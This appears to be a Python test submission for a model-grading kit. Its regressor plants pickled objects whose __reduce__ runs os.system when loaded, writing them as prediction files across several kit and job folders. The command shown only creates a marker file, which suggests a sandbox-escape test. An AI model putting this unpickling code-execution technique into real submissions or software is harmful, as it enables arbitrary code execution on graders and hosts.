"""Predicts what runs a program when it is unpickled, and leaves it where the kit might look for it."""

import os
import pickle

import numpy as np


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/palio-attack-unpickled; echo BROKEN OUT",))


class Regressor:
    def fit(self, X, y):
        for folder in (".", "/tmp", "/job", "/job/submission", "/kit"):
            for name in ("y_pred_test.pkl", "y_pred_train.pkl", "training_output/y_pred_test.pkl"):
                try:
                    with open(f"{folder}/{name}", "wb") as file:
                        pickle.dump(Evil(), file)
                except OSError:
                    continue

    def predict(self, X):
        return np.array([Evil() for _ in X], dtype=object)
